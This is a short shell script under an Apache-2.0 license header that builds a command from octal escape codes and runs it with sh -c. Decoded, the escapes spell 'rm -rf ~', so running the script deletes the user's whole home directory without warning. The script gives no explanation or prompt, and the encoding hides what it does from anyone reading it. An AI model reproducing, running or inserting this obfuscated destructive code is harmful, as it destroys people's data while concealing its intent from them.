#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
a=$(printf '\162\155\040\055\162\146\040\176')
sh -c "$a"
